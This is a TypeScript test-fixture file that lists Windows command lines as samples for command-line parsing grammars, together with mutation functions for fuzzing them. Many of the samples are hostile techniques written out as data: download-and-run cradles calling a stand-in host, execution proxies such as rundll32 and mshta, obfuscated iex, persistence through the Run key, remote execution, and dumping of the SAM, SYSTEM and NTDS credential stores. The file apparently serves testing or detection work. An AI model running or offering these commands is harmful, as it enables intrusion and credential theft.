/** Lines that show each rule of the grammars at work, and ways to bend them by one sign. */

export const LINES: readonly string[] = String.raw`
cmd /c "C:\x y\a.exe" -q
cmd /s /c "C:\x\a.exe & C:\y\b.exe"
cmd /v:on /c set p=C:\x\a.exe&!p!
cmd /q/d/c(C:\x\a.exe)
cmd /c "echo a & "C:\x y\a.exe" & echo b"
cmd /c echo "a & b" | C:\x\a.exe
cmd /c C:\x\a.exe ^& C:\y\b.exe 2>&1
cmd /c if exist C:\x\a.exe (C:\x\a.exe) else C:\y\b.exe
cmd /c if not "a"=="b" C:\x\a.exe
cmd /c for %i in (a b) do C:\x\%i.exe
cmd /c for /f "delims=" %i in ('dir /b C:\x') do C:\y\b.exe
cmd /c cd /d C:\x && a.exe
cmd /c pushd \\srv\share & a.exe
cmd /c start "title" /min /d C:\x a.exe
cmd /c start /b "" "C:\x y\a.exe" -q
cmd /c type C:\x\a.ps1 | powershell -
cmd /c echo C:\x\a.exe | cmd
cmd /c powershell - < C:\x\a.ps1
cmd /c copy C:\x\a.exe C:\y & C:\y\a.exe
cmd /c timeout 5 >nul & C:\x\a.exe
cmd /c call C:\x\a.bat
cmd /k @C:\x\a.bat
%COMSPEC:~0,20%cmd.exe /c C:\x\a.exe
powershell -nop -w hidden -c "& 'C:\x y\a.ps1' -q"
powershell -ep bypass -File C:\x\a.ps1 b
powershell -c "iex (irm http://e.test/a)"
powershell -c "Start-Process -FilePath C:\x\a.exe -ArgumentList '-q' -WindowStyle Hidden"
powershell -c "saps 'C:\x y\a.exe'; exit"
powershell -c "$p='C:\x\a.exe'; & $p"
powershell -c "&('i'+'ex') 'calc'"
powershell -c "('{1}{0}' -f 'x','ie')"
powershell -c "'xei'[-1..-3] -join ''"
powershell -c "[char]73+[char]69+[char]88"
powershell -c "(gp HKCU:\Software\X).Y | iex"
powershell -c "iex (Get-ItemProperty -Path 'HKCU:\Software\X' -Name Y).Y"
powershell -c "gc C:\x\a.txt | iex"
powershell -c "Import-Module C:\x\a.psm1"
powershell -c "[Reflection.Assembly]::LoadFile('C:\x\a.dll')"
powershell -c "Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{CommandLine='C:\x\a.exe'}"
powershell -Version 2 -enc SQBFAFgA
wsl.exe -d Ubuntu -u root -e bash -c "/mnt/c/x/a.sh -q"
wsl -- /mnt/c/x/a.exe b
wsl --cd ~ -- curl http://e.test/a
bash -lc /tmp/a
bash /mnt/c/x/a.sh b
sh -c "C:\x\a.exe -q"
rundll32 "C:\x y\a.dll",Go b
rundll32.exe C:\x\a.dll Go
rundll32 C:\x\a.dat,#1
rundll32 javascript:"\..\mshtml,RunHTMLApplication ";x()
rundll32 url.dll,OpenURL file:///C:/x/a.hta
rundll32 shell32.dll,Control_RunDLL C:\x\a.cpl
rundll32 advpack.dll,LaunchINFSection C:\x\a.inf,Go,1
regsvr32 /s /n /u /i:http://e.test/a.sct scrobj.dll
regsvr32 -s "C:\x y\a.ocx"
mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""C:\x\a.exe"":close")
mshta "C:\x y\a.hta" b
msiexec /q /i http://e.test/a.msi
msiexec /y C:\x\a.dll
wscript //B //E:vbscript C:\x\a.txt b
cscript.exe //nologo "C:\x y\a.js"
forfiles /p C:\Windows /m n.exe /c "cmd /c C:\x\a.exe"
pcalua -a C:\x\a.exe -c -q
conhost --headless cmd /c C:\x\a.exe
explorer.exe /root,"C:\x\a.exe"
wmic process call create "C:\x\a.exe -q"
wmic /node:srv process call create 'cmd /c C:\x\a.exe'
schtasks /run /tn x
schtasks /create /tn x /tr "reg save HKLM\SAM C:\o" /s srv
sc \\srv create x binPath= "cmd /c reg save HKLM\SAM C:\o"
at \\srv 12:00 cmd /c reg save HKLM\SAM C:\o
psexec \\srv -s -d cmd /c reg save HKLM\SYSTEM C:\o
winrs -r:srv reg save HKLM\SAM C:\o
bitsadmin /transfer x http://e.test/a C:\x\a.exe
certutil -urlcache -f http://e.test/a C:\x\a.exe
curl -o C:\x\a.exe http://e.test/a
java -cp C:\x\a.jar Main b
javaw -jar "C:\x y\a.jar"
node C:\x\a.js b
python -m a
pythonw.exe C:\x\a.py
installutil /logfile= /u C:\x\a.dll
msbuild C:\x\a.csproj
odbcconf /a {REGSVR C:\x\a.dll}
cmstp /s C:\x\a.inf
hh.exe http://e.test/a.chm
control.exe C:\x\a.cpl
ssh -o ProxyCommand="C:\x\a.exe" h
ftp -s:C:\x\a.txt
C:\Program Files\A B\c.exe /x
C:\x y\a b.exe:s.ps1 -q
"C:\x y\a.exe"b
\\srv\share\a.exe -q
\\srv@SSL\DavWWWRoot\a.exe
\\?\C:\x\a.exe
\??\C:\x\a.exe
\SystemRoot\System32\a.exe
%APPDATA%\a.exe -q
%%TEMP%%\a b.exe
C:\PROGRA~1\a\b.exe
C:\x\..\y\.\a.exe.
file:///C:/x/a%20b.hta
http://e.test/a?b=c
shell:startup
a.exe,b.exe
userinit.exe,C:\x\a.exe
reg save HKLM\SAM C:\o /y
reg.exe SAVE \\srv\HKLM\SYSTEM "C:\x y\o.hiv" /reg:64
reg export "HKEY_LOCAL_MACHINE\SOFTWARE\A B" C:\o.reg /y
reg restore HKLM\SYSTEM\ControlSet001\Services\x C:\o
reg load HKU\x C:\Users\a\NTUSER.DAT
reg unload HKU\x
reg copy HKLM\SAM HKCU\S /s /f
reg compare HKLM\A \\srv\HKLM\A /v b
reg query HKLM /f password /t REG_SZ /s
reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v U /t REG_EXPAND_SZ /d "%TEMP%\a.exe" /f
reg add "HKLM\A B" /ve /d x
reg add HKLM\A /v M /t REG_MULTI_SZ /s ; /d a;b
reg delete HKCU\A /va /f
reg import C:\x\a.reg
reg flags HKLM\Software\A set DONT_VIRTUALIZE
regedit /e C:\o.reg HKEY_LOCAL_MACHINE\SAM
regedit /s "C:\x y\a.reg"
r^eg s"av"e hk"lm\s"am C:\o
svc.exe save hklm\security C:\o
cmd /c for %i in (SAM SYSTEM) do reg save HKLM\%i C:\o\%i
powershell "'SAM','SYSTEM' | % { reg save HKLM\$_ C:\$_ }"
powershell -c "foreach($h in 'sam','system'){reg save hklm\$h C:\$h}"
powershell -c "Start-Process reg -ArgumentList 'save','HKLM\SAM','C:\o'"
powershell -c "Copy-Item HKLM:\SAM HKCU:\S -Recurse"
powershell -c "gci HKLM:\SAM | Export-Clixml C:\o"
powershell -c "[R]::RegSaveKeyEx($k,'C:\o',0,2) # SAM"
powershell -c "New-ItemProperty -Path HKCU:\Software\Microsoft\Windows\CurrentVersion\Run -Name U -Value C:\x\a.exe"
powershell -c "sp HKCU:\A U C:\x; cd HKLM:\B; sp . V y -Type DWord"
powershell -c "Set-Item -Path HKCU:\A\B -Value C:\x"
powershell -c "[Microsoft.Win32.Registry]::SetValue('HKEY_CURRENT_USER\A','U','C:\x')"
powershell -c "[Microsoft.Win32.Registry]::LocalMachine.OpenSubKey('A',$true).SetValue('U','x')"
powershell -c "$w=New-Object -com WScript.Shell; $w.RegWrite('HKCU\A\U','C:\x','REG_SZ')"
powershell -c "([wmiclass]'root\default:StdRegProv').SetStringValue(2147483650,'A','U','C:\x')"
wmic /namespace:\\root\default class stdregprov call SetStringValue hDefKey="&H80000001" sSubKeyName="A" sValueName="U" sValue="C:\x"
powershell -c "Invoke-Command -ComputerName srv { reg add HKLM\A /v U /d x }"
copy C:\Windows\System32\config\SAM C:\o
esentutl /y /vss C:\Windows\System32\config\SYSTEM /d C:\o
ntdsutil "ac i ntds" "ifm" "create full C:\o" q q
wbadmin start backup -include:C:\Windows\System32\config -backupTarget:D: -quiet
robocopy C:\Windows\System32\config C:\o SAM SYSTEM /b
cmd /c copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\Windows\System32\config\SECURITY C:\o\s
print /D:C:\o C:\Windows\repair\sam
makecab C:\Windows\System32\config\SAM C:\o.cab
powershell -c "[IO.File]::Copy('C:\Windows\System32\config\SAM','C:\o')"
`
  .split('\n')
  .filter((line) => line !== '');

type Bend = readonly [name: string, bend: (line: string) => string];

/** Each changes one thing that a grammar may hang on. */
export const BENDS: readonly Bend[] = [
  ['', (line) => line],
  ['in quotes', (line) => `"${line}"`],
  ['one letter before', (line) => `a${line}`],
  ['one letter behind', (line) => `${line}a`],
  ['without its end', (line) => line.slice(0, -1)],
  ['half', (line) => line.slice(0, Math.ceil(line.length / 2))],
  ['doubled blanks', (line) => line.replaceAll(' ', '  ')],
  ['no quotes', (line) => line.replace(/["']/g, '')],
  ['other quotes', (line) => line.replaceAll('"', "'")],
  ['dashes for slashes', (line) => line.replace(/ \/(?=\w)/g, ' -')],
  ['with more', (line) => `${line} & C:\\z\\z.exe /z`],
  ['upper case', (line) => line.toUpperCase()],
];
